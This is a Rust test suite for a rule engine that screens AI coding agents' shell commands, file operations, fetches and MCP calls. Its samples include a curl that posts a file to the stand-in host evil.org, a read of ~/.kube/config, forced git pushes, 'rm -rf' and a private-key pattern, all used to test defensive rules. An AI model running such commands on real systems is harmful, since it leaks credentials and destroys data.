//! Every condition, with matches and non-matches.

use tenter_model::{Body, Decision, Event, EventKind, HostId, ToolResult};
use tenter_policy::policy::{Expect, FailMode, Layer};
use tenter_policy::{Facts, Level, Memo, Memory, Policy, Sample, World, judge};

use super::{CWD, finds, judged, load, policy, world};

fn rule(lines: &str) -> Policy {
    policy(&format!("[[rule]]\nid = 'r'\ndecide = 'ask'\n{lines}\n"))
}

#[track_caller]
fn samples(lines: &str, fits: &[Sample<'_>], others: &[Sample<'_>]) {
    let policy = rule(lines);
    for sample in fits {
        assert!(finds(&policy, *sample, "r"), "{lines}: {sample:?} must fit");
    }
    for sample in others {
        assert!(!finds(&policy, *sample, "r"), "{lines}: {sample:?} must not fit");
    }
}

/// Checks that a rule with these lines matches the first commands and not the others.
#[track_caller]
fn shell(lines: &str, fits: &[&str], others: &[&str]) {
    let fits: Vec<_> = fits.iter().map(|command| Sample::Shell(command)).collect();
    let others: Vec<_> = others.iter().map(|command| Sample::Shell(command)).collect();
    samples(lines, &fits, &others);
}

#[test]
fn a_program_is_found_behind_its_wrappers() {
    shell(
        "when = { program = 'kubectl' }",
        &[
            "kubectl get pods",
            "sudo kubectl get pods",
            "bash -c 'kubectl get'",
            "cd x && kubectl a",
        ],
        &["echo kubectl", "kubectl2 get", "git commit -m 'use kubectl'"],
    );
    shell("when = { program = ['helm', 'kube*'] }", &["helm x", "kubectx"], &["ls", "mkube"]);
}

#[test]
fn arguments_are_found_in_any_order() {
    shell(
        "when = { program = 'git', args = ['push', '--force'] }",
        &["git push --force", "git push origin --force", "git push --force=x"],
        &["git push", "git push --force-with-lease", "echo push --force; git status"],
    );
    shell("when = { args = '-rf' }", &["rm -fr x", "rm -r -f x"], &["rm -r x", "echo '-rf x'"]);
}

#[test]
fn effects_are_what_would_happen() {
    shell(
        "when = { effect = 'delete' }",
        &["rm x", "find . -delete", "unlink x"],
        &["echo rm x", "ls", "git commit -m 'rm x'"],
    );
    shell(
        "when = { effect = ['delete', 'vcs-worktree/reset-hard'] }",
        &["git reset --hard", "rm x"],
        &["git clean -fd", "git reset"],
    );
}

#[test]
fn paths_are_what_commands_and_tools_reach() {
    samples(
        "when = { path = ['prod/**', '~/.kube/*'] }",
        &[
            Sample::Shell("cat prod/a.yaml"),
            Sample::Shell("cd prod && cat a.yaml"),
            Sample::Shell("rm -rf prod"),
            Sample::Shell("rm -rf ."),
            Sample::Shell("echo x > prod/a"),
            Sample::Shell("cat ~/.kube/config"),
            Sample::Read("prod/a.yaml"),
            Sample::Write("/home/me/shop/prod/a.yaml", "x"),
            Sample::Delete("./prod/a.yaml"),
        ],
        &[
            Sample::Shell("cat dev/a.yaml"),
            Sample::Shell("echo prod/a.yaml"),
            Sample::Shell("cat /srv/prod/a.yaml"),
            Sample::Shell("cat \"$file\""),
            Sample::Read("dev/prod.yaml"),
            Sample::Prompt("prod/a.yaml"),
        ],
    );
}

#[test]
fn the_arguments_of_a_named_program_may_be_paths() {
    shell(
        "on = 'shell'\nwhen = { program = 'kubectl', args = ['apply'], path = 'prod/**' }",
        &[
            "kubectl apply -f prod/a.yaml",
            "kubectl apply --filename=prod/a.yaml",
            "cd prod; kubectl apply -f a",
        ],
        &[
            "kubectl apply -f dev/a.yaml",
            "kubectl get -f prod/a.yaml",
            "kubectl apply -f dev; cat prod/a.yaml",
        ],
    );
}

#[test]
fn hosts_are_found_in_commands_and_fetches() {
    samples(
        "when = { url = ['*.example.com', 'evil.org'] }",
        &[
            Sample::Shell("curl https://api.example.com/x"),
            Sample::Shell("curl -d @x http://evil.org"),
            Sample::Fetch("https://www.example.com/"),
        ],
        &[
            Sample::Shell("curl https://example.org/"),
            Sample::Shell("echo https://evil.org"),
            Sample::Fetch("https://example.com.org/"),
        ],
    );
}

#[test]
fn mcp_tools_are_named_by_server_and_tool() {
    samples(
        "when = { mcp = ['github/delete_*', '*/drop'] }",
        &[Sample::Mcp("github/delete_repo"), Sample::Mcp("db/drop"), Sample::Mcp("delete_repo")],
        &[Sample::Mcp("github/list"), Sample::Mcp("gitlab/delete_repo"), Sample::Shell("ls")],
    );
}

#[test]
fn texts_are_found_whatever_their_capitals() {
    samples(
        "when = { prompt = ['deploy', { matches = 'rm\\s+-rf' }] }",
        &[Sample::Prompt("please DEPLOY now"), Sample::Prompt("run rm  -rf")],
        &[Sample::Prompt("please depl oy"), Sample::Prompt("rm-rf"), Sample::Shell("deploy")],
    );
    samples(
        "when = { content = 'BEGIN key' }",
        &[
            Sample::Write("a", "x begin KEY y"),
            Sample::Edit("a", "begin key"),
            Sample::Output("begin key"),
            Sample::Content("a", "begin key"),
        ],
        &[Sample::Write("a", "begin  key"), Sample::Prompt("begin key"), Sample::Read("begin key")],
    );
    samples(
        "when = { command = { matches = 'a[0-9]+b$' } }",
        &[Sample::Shell("echo a12b")],
        &[Sample::Shell("echo a12bc"), Sample::Shell("echo ab"), Sample::Prompt("a12b")],
    );
}

#[test]
fn an_on_is_an_action_or_an_event() {
    let (read, write) = (Sample::Read("x"), Sample::Write("x", ""));
    let (edit, delete) = (Sample::Edit("x", ""), Sample::Delete("x"));
    let (fetch, mcp) = (Sample::Fetch("http://x.org"), Sample::Mcp("a/b"));
    let (prompt, output) = (Sample::Prompt("x"), Sample::Output("x"));
    let shell = Sample::Shell("true");
    let cases: [(&str, &[Sample<'_>], &[Sample<'_>]); 15] = [
        ("shell", &[shell], &[read, prompt, output, mcp]),
        ("read", &[read, Sample::Shell("cat x")], &[write, shell, delete]),
        ("write", &[write, Sample::Shell("echo x > y")], &[read, edit, shell]),
        ("edit", &[edit, write, Sample::Shell("echo x > y")], &[read, delete, shell]),
        ("delete", &[delete, Sample::Shell("rm x")], &[read, write, shell]),
        ("fetch", &[fetch, Sample::Shell("curl http://x.org")], &[read, shell]),
        ("mcp", &[mcp], &[shell, read]),
        ("prompt", &[prompt], &[shell, output]),
        ("output", &[output], &[shell, prompt]),
        ("any", &[shell, read, write, edit, delete, fetch, mcp, prompt, output], &[]),
        ("PreToolUse", &[shell, read, mcp], &[prompt, output]),
        // Some hosts send every edit as the whole file.
        ("PreToolUse:Edit", &[edit, write], &[read, shell]),
        ("PreToolUse:Write", &[write], &[edit, shell]),
        ("PreToolUse:Write|Bash", &[write, shell], &[edit, read]),
        ("PostToolUse:Bash", &[output], &[shell, prompt]),
    ];
    for (on, fits, others) in cases {
        samples(&format!("on = '{on}'"), fits, others);
    }
    samples("on = ['write', 'edit']", &[write, edit], &[read]);
    samples(
        "on = 'delete'\nwhen = { path = 'a' }",
        &[Sample::Shell("rm a; cat b")],
        &[Sample::Shell("rm b; cat a"), Sample::Read("a")],
    );
}

struct OnBranch(&'static str);

impl tenter_shell::FileFacts for OnBranch {}

impl Facts for OnBranch {
    fn branch(&self, folder: &str) -> Option<String> {
        (folder == CWD).then(|| self.0.to_owned())
    }
}

#[test]
fn a_branch_is_the_one_that_is_checked_out_there() {
    let cases = [
        ("main", "main", "git commit", true),
        ("main", "feature/main", "git commit", false),
        ("release/*", "release/1", "git commit", true),
        ("release/*", "release", "git commit", false),
        ("main", "main", "cd /elsewhere && git commit", false),
        ("*", "main", "git commit", true),
    ];
    for (wanted, branch, command, expected) in cases {
        let policy = rule(&format!("when = {{ program = 'git', branch = '{wanted}' }}"));
        let facts = OnBranch(branch);
        let world = World { facts: &facts, ..world() };
        let judgement = judge(&policy, &Sample::Shell(command).event(Some(CWD)), &world);
        let found = judgement.findings.iter().any(|found| found.rule == "r");
        assert_eq!(found, expected, "{wanted} on {branch}: {command}");
    }
}

#[test]
fn a_folder_is_where_the_command_runs() {
    shell(
        "when = { program = 'terraform', cwd = 'infra/**' }",
        &["cd infra && terraform plan", "cd infra/a && terraform plan"],
        &["terraform plan", "cd infrastructure && terraform plan"],
    );
    shell("when = { program = 'ls', cwd = '~/shop' }", &["ls", "cd src && ls"], &["cd /tmp && ls"]);
    shell("when = { cwd = '/home/me' }", &["ls"], &[]);
    shell("when = { cwd = 'infra' }", &[], &["ls"]);
}

#[test]
fn wrappers_are_named_by_via() {
    shell(
        "when = { program = 'npm', via = ['sudo', 'doas'] }",
        &["sudo npm i", "bash -c 'doas npm i'"],
        &["npm i", "sudo ls; npm i"],
    );
}

#[test]
fn certain_leaves_out_what_only_may_happen() {
    let sure = "when = { effect = 'delete', certain = true }";
    let doubtful = "if grep -q a b; then rm x; fi";
    shell(sure, &["rm x"], &[doubtful]);
    shell("when = { effect = 'delete' }", &[doubtful], &[]);
}

#[test]
fn fields_of_the_event_can_be_asked_for() {
    type Change = fn(&mut Event<'static>);
    let cases: [(&str, Change, bool); 11] = [
        ("tool = 'bash'", |_| {}, true),
        ("tool = 'Edit'", |_| {}, false),
        ("tool = 'run_*'", |event| native(event, "run_terminal_cmd"), true),
        ("host = 'cursor'", |event| event.host = HostId::Cursor, true),
        ("host = ['cursor', 'codex']", |_| {}, false),
        ("agent_type = 'explore'", |event| event.agent.kind = Some("Explore".into()), true),
        ("agent_type = 'explore'", |event| event.agent.kind = Some("explorer".into()), false),
        ("agent_type = 'explore'", |_| {}, false),
        ("permission_mode = 'bypass*'", |event| mode(event, "bypassPermissions"), true),
        ("permission_mode = 'bypass*'", |event| mode(event, "default"), false),
        ("permission_mode = 'plan'", |_| {}, false),
    ];
    for (condition, change, expected) in cases {
        let policy = rule(&format!("when = {{ {condition} }}"));
        let mut event = Sample::Shell("true").event(Some(CWD));
        change(&mut event);
        let judgement = judge(&policy, &event, &world());
        let found = judgement.findings.iter().any(|found| found.rule == "r");
        assert_eq!(found, expected, "{condition}");
    }
}

fn mode(event: &mut Event<'static>, mode: &'static str) {
    event.permission_mode = Some(mode.into());
}

fn native(event: &mut Event<'static>, name: &'static str) {
    if let Body::PreToolUse(call) = &mut event.body {
        call.native_tool = Some(name.into());
    }
}

#[test]
fn a_finding_says_what_the_rule_says_and_where() {
    let policy = policy(
        "\n[[rule]]\nid = 'no-apply'\non = 'shell'\nwhen = { program = 'kubectl', path = 'prod/**' }\n\
         decide = 'deny'\nreason = 'applies to production'\nmessage = 'call the operator'\n\
         instead = 'kubectl diff'\n",
    );
    let command = "ls && kubectl apply -f prod/a.yaml";
    let judgement = judged(&policy, Sample::Shell(command));
    let found = judgement.findings.iter().find(|found| found.rule == "no-apply").unwrap();
    assert_eq!(found.level, Level::Deny);
    assert_eq!(command.get(found.span.unwrap().range()), Some("kubectl apply -f prod/a.yaml"));
    assert_eq!(found.subject, "/home/me/shop/prod/a.yaml");
    assert_eq!((&*found.what, &*found.instead), ("applies to production", "kubectl diff"));
    assert!(found.by_rule);
    assert_eq!(policy.says(found.origin), "user policy, user.toml:2");
    assert_eq!(policy.rule("no-apply", found.origin).unwrap().message, "call the operator");
    assert_eq!(judgement.verdict.decision, Some(Decision::Deny));
}

#[test]
fn a_limit_lets_so_many_pass() {
    let policy = rule("on = 'shell'\nwhen = { program = 'npm' }\nlimit = 2");
    let mut memory = Memory::new();
    let mut levels = Vec::new();
    for _ in 0..4 {
        let known = memory.clone();
        let world = World { memory: &known, ..world() };
        let judgement = judge(&policy, &Sample::Shell("npm i").event(Some(CWD)), &world);
        let found = judgement.findings.iter().find(|found| found.rule == "r").unwrap();
        levels.push(found.level);
        judgement.memos.iter().for_each(|memo| memory.add(memo));
    }
    assert_eq!(levels, [Level::Log, Level::Log, Level::Ask, Level::Ask]);
    assert_eq!(memory.counted("r"), 2);

    let judgement = judged(&policy, Sample::Shell("npm a; npm b; npm c"));
    let levels: Vec<Level> =
        judgement.findings.iter().filter(|found| found.rule == "r").map(|it| it.level).collect();
    assert_eq!(
        levels,
        [Level::Ask, Level::Log, Level::Log],
        "the third in one command is too many"
    );
    assert_eq!(judgement.memos.iter().filter(|it| matches!(it, Memo::Counted(_))).count(), 2);
}

#[test]
fn a_request_for_permission_does_not_count_again() {
    let policy = rule("on = 'shell'\nwhen = { program = 'npm' }\nlimit = 2");
    let mut event = Sample::Shell("npm i").event(Some(CWD));
    if let Body::PreToolUse(call) = event.body.clone() {
        event.body = Body::PermissionRequest(call);
    }
    assert_eq!(event.kind(), EventKind::PermissionRequest);
    let judgement = judge(&policy, &event, &world());
    assert!(judgement.findings.iter().any(|found| found.rule == "r"));
    assert!(!judgement.memos.iter().any(|memo| matches!(memo, Memo::Counted(_))));
}

#[test]
fn a_rule_ends_with_its_last_day() {
    // 2026-12-31 ends at 1798761600.
    let policy = rule("on = 'shell'\nexpires = 2026-12-31");
    for (now, expected) in [(0, true), (1_798_761_599, true), (1_798_761_600, false)] {
        let world = World { now, ..world() };
        let judgement = judge(&policy, &Sample::Shell("ls").event(Some(CWD)), &world);
        assert_eq!(judgement.findings.iter().any(|it| it.rule == "r"), expected, "{now}");
    }
}

/// The verdict left after the exception.
fn excepted(rule: &str, exception: &str, command: &str) -> Option<Decision> {
    // Guards have their own findings for these commands.
    let names = tenter_policy::guards::GUARDS.iter().map(|guard| guard.id);
    let off: String = names.flat_map(|name| [name, " = 'off'\n"]).collect();
    let policy = policy(&format!(
        "[guards]\n{off}[[rule]]\nid = 'r'\ndecide = 'ask'\nwhen = {rule}\n[[allow]]\nrule = 'r'\n\
         reason = 'because'\n{exception}\n"
    ));
    judged(&policy, Sample::Shell(command)).verdict.decision
}

#[test]
fn an_exception_covers_what_it_names_and_nothing_else() {
    let delete = "{ effect = 'delete' }";
    let build = "when = { path = 'build/**' }";
    let url = "{ url = '*.org' }";
    let cases = [
        (delete, "", "rm a", true),
        (delete, build, "rm build/x", true),
        (delete, build, "rm build/*", true),
        (delete, build, "rm src/x", false),
        (delete, build, "rm build/x src/x", false),
        (delete, build, "rm build/x; rm src/x", false),
        (delete, build, "rm build/../src/x", false),
        (delete, build, "rm \"build/$x\"", false),
        (delete, build, "cd build && rm x", true),
        (delete, "when = { program = 'rm', args = ['a'] }", "rm a", true),
        (delete, "when = { program = 'rm', args = ['a'] }", "rm a b", false),
        (delete, "when = { program = 'unlink' }", "rm a", false),
        (delete, "when = { cwd = 'build/**' }", "cd build && rm a", true),
        (delete, "when = { cwd = 'build/**' }", "rm a; cd build", false),
        (delete, "when = { host = 'cursor' }", "rm a", false),
        (delete, "when = { host = 'claude' }", "rm a", true),
        (delete, "when = { certain = true }", "rm a", true),
        (delete, "when = { via = 'sudo' }", "rm a", false),
        (delete, "when = { via = 'sudo' }", "sudo rm a", true),
        (delete, "when = { effect = 'read' }", "rm a", false),
        (url, "when = { url = 'a.org' }", "curl http://a.org", true),
        (url, "when = { url = 'a.org' }", "curl http://b.org", false),
    ];
    for (rule, exception, command, passes) in cases {
        let expected = if passes { None } else { Some(Decision::Ask) };
        assert_eq!(excepted(rule, exception, command), expected, "{exception}: {command}");
    }
}

#[test]
fn an_exception_ends_and_says_why_it_holds() {
    let policy = policy(
        "[[rule]]\nid = 'r'\ndecide = 'ask'\non = 'read'\n[[allow]]\nrule = 'r'\nreason = 'fixtures'\n\
         expires = 1970-01-02\nwhen = { path = 'tests/**' }\n",
    );
    let event = Sample::Read("tests/x").event(Some(CWD));
    let judgement = judge(&policy, &event, &world());
    let found = judgement.findings.iter().find(|found| found.rule == "r").unwrap();
    assert_eq!(found.excepted.as_deref(), Some("fixtures"));
    let later = World { now: 3 * 86_400, ..world() };
    let judgement = judge(&policy, &event, &later);
    assert_eq!(judgement.verdict.decision, Some(Decision::Ask));
}

#[test]
fn a_list_lets_subjects_pass_that_are_what_they_say() {
    let setting = policy("[guards]\nunverified = { allow = ['tests/**', '*.example.com'] }\n")
        .settings
        .into_iter()
        .find(|setting| !setting.allow.is_empty())
        .unwrap();
    let cases = [
        ("/home/me/shop/tests/a", true),
        ("/home/me/shop/tests/*", true),
        ("api.example.com", true),
        ("/home/me/shop/src/a", false),
        ("/home/me/shop/tests/$x", false),
        ("/home/me/shop/tests/$(x)", false),
        ("/home/me/shop/tests/{}", false),
        ("/home/me/shop/tests/.*", false),
        ("", false),
    ];
    for (subject, expected) in cases {
        assert_eq!(setting.allows(subject), expected, "{subject}");
    }
}

#[test]
fn a_handler_sees_the_events_it_is_made_for() {
    let policy = policy(
        "[[handler]]\nid = 'format'\non = 'PostToolUse:Bash'\nrun = ['true']\ntimeout = '5s'\n\
         [[handler]]\nid = 'lint'\non = 'edit'\nwhen = { path = '*.rs' }\nrun = ['true', '{path}']\n",
    );
    let wanted = |sample: Sample<'_>| -> Vec<String> {
        let event = sample.event(Some(CWD));
        let world = world();
        let scene = tenter_policy::scene::Scene::new(&event, &world);
        let fitting = policy.handlers.iter().filter(|handler| handler.fits(&scene));
        fitting.map(|handler| handler.id.clone()).collect()
    };
    assert_eq!(wanted(Sample::Output("x")), ["format"]);
    assert_eq!(wanted(Sample::Edit("src/a.rs", "x")), ["lint"]);
    assert!(wanted(Sample::Edit("src/a.py", "x")).is_empty());
    assert_eq!(policy.handlers[0].timeout_ms, 5_000);
    assert!(!policy.handlers[0].project);
    let project = load(&[(Layer::Project, "[[handler]]\nid = 'a'\non = 'any'\nrun = ['x']\n")]);
    assert!(project.handlers[0].project);
}

#[test]
fn a_handler_may_speak_for_a_host_and_fail_in_its_own_way() {
    let own = "[[handler]]\nid = 'a'\non = 'any'\nrun = ['x']\nspeaks = 'cursor'\nevent = 'stop'\n\
               matcher = 'S'\ncwd = '/w'\nfail = 'open'\n";
    let handler = policy(own).handlers.remove(0);
    let foreign = handler.foreign.clone().unwrap();
    assert_eq!(foreign.speaks.host(), HostId::Cursor);
    let texts = [foreign.event, foreign.matcher, foreign.cwd];
    assert_eq!(texts, ["stop", "S", "/w"]);
    assert_eq!(handler.fail_mode(FailMode::Closed), FailMode::Open);
    let project = load(&[(Layer::Project, own)]).handlers.remove(0);
    assert_eq!(project.fail_mode(FailMode::Closed), FailMode::Closed, "a project only tightens");
    assert_eq!(project.fail_mode(FailMode::Open), FailMode::Open);
    let plain = policy("[[handler]]\nid = 'a'\non = 'any'\nrun = ['x']\n").handlers.remove(0);
    assert_eq!((plain.foreign.is_none(), plain.fail_mode(FailMode::Ask)), (true, FailMode::Ask));
}

#[test]
fn what_a_finished_call_touched_can_be_asked_for() {
    let policy = rule("on = 'PostToolUse:Edit'\nwhen = { path = 'src/**' }");
    for (path, expected) in [("src/a.rs", true), ("docs/a.md", false)] {
        let mut event = Sample::Edit(path, "x").event(Some(CWD));
        if let Body::PreToolUse(call) = event.body.clone() {
            let result = ToolResult { call, response: None, exit_code: None, duration_ms: None };
            event.body = Body::PostToolUse(result);
        }
        let judgement = judge(&policy, &event, &world());
        assert_eq!(judgement.findings.iter().any(|it| it.rule == "r"), expected, "{path}");
    }
}

#[test]
fn a_whole_policy_loads_and_its_tests_hold() {
    let policy = policy(
        r#"
version = 1
extends = ["recommended"]

[fail]
guard = "ask"
handler = "open"

[guards]
destructive-git = "ask"
secrets = { level = "deny", allow = ["tests/fixtures/**"] }
mcp = { default = "ask", allow = ["github/*"], deny = ["*/delete_*"] }

[[rule]]
id = "prod-kubectl"
on = "shell"
when = { program = "kubectl", args = ["apply"], path = "prod/**" }
decide = "ask"
reason = "applies to production"
instead = "kubectl diff -f ..."
test = [
  { shell = "kubectl apply -f prod/a.yaml", expect = "ask" },
  { shell = "sudo kubectl apply -f ./prod/a.yaml", expect = "ask" },
  { shell = "kubectl apply -f dev/a.yaml", expect = "none" },
]

[[handler]]
id = "format"
on = "PostToolUse:Edit"
run = ["prettier", "--write", "{path}"]
timeout = "5s"
"#,
    );
    assert_eq!(policy.tests.len(), 3);
    for test in &policy.tests {
        let findings = judge(&policy, &test.event(Some(CWD)), &world()).findings;
        let found = findings.iter().any(|found| found.rule == "prod-kubectl");
        assert_eq!(found, test.expect == Expect::Ask, "{}", test.title());
    }
}

#[test]
fn the_tests_of_a_rule_expect_that_rule() {
    let policy = policy(
        "[[rule]]\nid = 'r'\non = 'shell'\nwhen = { program = 'npm' }\ndecide = 'ask'\n\
         test = [{ shell = 'npm i', expect = 'ask' }, { shell = 'ls', expect = 'none', cwd = '/x', \
         branch = 'b', host = 'codex', agent_type = 'a', permission_mode = 'm' }]\n\
         [[test]]\nread = 'a'\ncontent = 'x'\nexpect = 'allow'\n",
    );
    assert_eq!(policy.tests[0].rule.as_deref(), Some("r"));
    assert_eq!(policy.tests[1].rule, None);
    let event = policy.tests[1].event(Some(CWD));
    assert_eq!(event.cwd.as_deref(), Some("/x"));
    assert_eq!((event.host, event.permission_mode.as_deref()), (HostId::Codex, Some("m")));
    assert_eq!(policy.tests[2].sample(), Sample::Content("a", "x"));
}
